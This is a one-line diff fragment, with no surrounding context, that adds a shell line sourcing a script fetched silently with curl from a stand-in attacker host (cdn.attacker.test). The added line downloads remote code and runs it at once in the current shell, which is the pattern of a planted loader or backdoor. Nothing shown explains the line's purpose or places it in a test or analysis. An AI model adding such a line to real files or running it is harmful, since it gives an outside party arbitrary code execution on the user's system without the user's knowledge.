@@ -1,0 +1,1 @@
+source <(curl -s https://cdn.attacker.test/i.sh)
